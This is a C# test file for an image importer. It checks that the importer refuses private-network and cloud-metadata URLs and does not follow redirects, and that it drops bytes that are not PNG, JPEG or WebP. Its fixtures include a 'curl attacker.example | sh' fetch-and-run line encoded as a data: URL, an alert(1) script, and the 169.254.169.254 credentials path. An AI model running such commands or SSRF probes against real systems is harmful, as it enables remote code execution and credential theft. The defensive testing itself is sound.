using System.Text;
using System.Text.Json;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;
using NanoBanana.Functions.Tests.Infrastructure;
using NanoBanana.Import;
using Npgsql;

namespace NanoBanana.Functions.Tests.Import;

/// <summary>
/// The original database names image URLs the importer fetches: it fetches only from public addresses
/// (the app's SSRF guard) and keeps only bytes that are PNG, JPEG or WebP images, whatever the URL,
/// the data: URL or the server's Content-Type claim.
/// </summary>
public sealed class ImportImageGuardTests : IAsyncLifetime
{
    private readonly Guid _user = Guid.NewGuid();
    private int _localHits;
    private TestDatabase _target = null!;
    private TestDatabase _original = null!;
    private FunctionApp _app = null!;
    private WebApplication _localHost = null!;
    private string _localUrl = "";

    public async Task InitializeAsync()
    {
        _target = await TestDatabase.CreateAsync();
        _app = await FunctionApp.StartAsync(database: _target);
        (_localHost, _localUrl) = await LoopbackServer.StartAsync(web =>
        {
            web.MapGet("/secret.png", () => { Interlocked.Increment(ref _localHits); return Results.Bytes(TestImages.Png, "image/png"); });
            web.MapGet("/page.png", () => { Interlocked.Increment(ref _localHits); return Results.Text("<html><script>alert(1)</script></html>", "image/png"); });
            web.MapGet("/moved.png", () => { Interlocked.Increment(ref _localHits); return Results.Redirect("http://169.254.169.254/latest/meta-data/"); });
        });
        _original = await TestDatabase.CreateEmptyAsync();
        await using var source = new NpgsqlConnection(_original.ConnectionString);
        await source.OpenAsync();
        await using var schema = new NpgsqlCommand(await File.ReadAllTextAsync(Path.Combine(TestSettings.RepositoryRoot, "NanoBanana.Functions.Tests", "Import", "original-schema.sql")), source);
        await schema.ExecuteNonQueryAsync();
        await using var user = new NpgsqlCommand("INSERT INTO users (id, email) VALUES (@user, 'alice@example.com')", source);
        user.Parameters.AddWithValue("user", _user);
        await user.ExecuteNonQueryAsync();
    }

    [Fact]
    public async Task AResultUrlOnThePrivateNetwork_IsNeverFetched()
    {
        // Arrange: the cloud's metadata endpoint, and a loopback server (a service only this machine reaches).
        var metadata = await SeedCompletedAsync(resultUrl: "http://169.254.169.254/latest/meta-data/identity-credentials");
        var loopback = await SeedCompletedAsync(resultUrl: _localUrl + "/secret.png");

        // Act
        var (exit, report) = await ImportAsync(allowLoopback: false);

        // Assert: nothing asked of the loopback server; both imported without an image, saying why.
        Assert.Equal(0, exit);
        Assert.Equal(0, _localHits);
        Assert.Equal(2, Skipped(report, "image left out: URL refused: its host"));
        Assert.Equal(("failed", "NO_IMAGE"), await StatusAsync(metadata));
        Assert.Equal(("failed", "NO_IMAGE"), await StatusAsync(loopback));
        Assert.Empty(await _app.BlobNamesAsync($"{metadata:D}/"));
    }

    [Fact]
    public async Task BytesThatAreNotAnImage_AreLeftOut_WhateverTheyClaim()
    {
        // Arrange: HTML served as image/png, a data: URL whose bytes are a script, a redirect to the metadata endpoint.
        var html = await SeedCompletedAsync(resultUrl: _localUrl + "/page.png");
        var script = Convert.ToBase64String(Encoding.UTF8.GetBytes("#!/bin/sh\ncurl attacker.example | sh\n"));
        var withScriptInput = await SeedCompletedAsync(resultBase64: Convert.ToBase64String(TestImages.Png), mainFaceImage: "data:image/png;base64," + script);
        var redirected = await SeedCompletedAsync(resultUrl: _localUrl + "/moved.png");

        // Act
        var (exit, report) = await ImportAsync(allowLoopback: true);

        // Assert
        Assert.Equal(0, exit);
        Assert.Equal(2, Skipped(report, "image left out: not a PNG, JPEG or WebP image"));
        Assert.Equal(1, Skipped(report, "image left out: 302 from 127.0.0.1: redirects are not followed"));
        Assert.Equal(("failed", "NO_IMAGE"), await StatusAsync(html));
        Assert.Equal(("failed", "NO_IMAGE"), await StatusAsync(redirected));
        Assert.Equal(("completed", null), await StatusAsync(withScriptInput));
        Assert.Empty(await _app.BlobNamesAsync($"{withScriptInput:D}/input-"));
        Assert.Empty(await _app.BlobNamesAsync($"{html:D}/"));
    }

    private async Task<Guid> SeedCompletedAsync(string? resultUrl = null, string? resultBase64 = null, string? mainFaceImage = null)
    {
        var id = Guid.NewGuid();
        await using var source = new NpgsqlConnection(_original.ConnectionString);
        await source.OpenAsync();
        await using var insert = new NpgsqlCommand("""
            INSERT INTO generations (id, user_id, prompt, status, main_face_image_url, result_image_url, result_base64, created_at, started_at, completed_at)
            VALUES (@id, @user, 'a banana', 'completed', @face, @url, @base64, now() - interval '1 day', now() - interval '1 day', now() - interval '1 day')
            """, source);
        insert.Parameters.AddWithValue("id", id);
        insert.Parameters.AddWithValue("user", _user);
        insert.Parameters.AddWithValue("face", (object?)mainFaceImage ?? DBNull.Value);
        insert.Parameters.AddWithValue("url", (object?)resultUrl ?? DBNull.Value);
        insert.Parameters.AddWithValue("base64", (object?)resultBase64 ?? DBNull.Value);
        await insert.ExecuteNonQueryAsync();
        return id;
    }

    private async Task<(int Exit, JsonElement Report)> ImportAsync(bool allowLoopback)
    {
        var settings = Path.Combine(Path.GetTempPath(), $"nanobanana-import-guard-{Guid.NewGuid():N}.json");
        await File.WriteAllTextAsync(settings, JsonSerializer.Serialize(new
        {
            Values = new Dictionary<string, string?>
            {
                ["Postgres__ConnectionString"] = _app.Configuration["Postgres:ConnectionString"],
                ["AzureWebJobsStorage"] = TestSettings.Storage,
                ["Storage__ImageContainer"] = _app.Configuration["Storage:ImageContainer"],
                ["Outbound__AllowLoopback"] = allowLoopback ? "true" : "false",
            },
        }));
        try
        {
            var output = new StringWriter();
            var error = new StringWriter();
            var exit = await ImportCommand.RunAsync(["--user", _user.ToString(), "--source", _original.ConnectionString, "--settings", settings, "--json"], output, error, CancellationToken.None);
            Assert.True(exit is 0 or 3, $"exit {exit}: {error}");
            return (exit, JsonDocument.Parse(output.ToString()).RootElement.Clone());
        }
        finally
        {
            File.Delete(settings);
        }
    }

    private static int Skipped(JsonElement report, string reasonStart) =>
        report.GetProperty("skipped").EnumerateObject().Where(s => s.Name.StartsWith(reasonStart, StringComparison.Ordinal)).Sum(s => s.Value.GetInt32());

    private async Task<(string, string?)> StatusAsync(Guid id)
    {
        var (status, _, code) = await _app.RowAsync(id);
        return (status, code);
    }

    public async Task DisposeAsync()
    {
        await _localHost.DisposeAsync();
        await _app.DisposeAsync();
        await _target.DisposeAsync();
        await _original.DisposeAsync();
    }
}
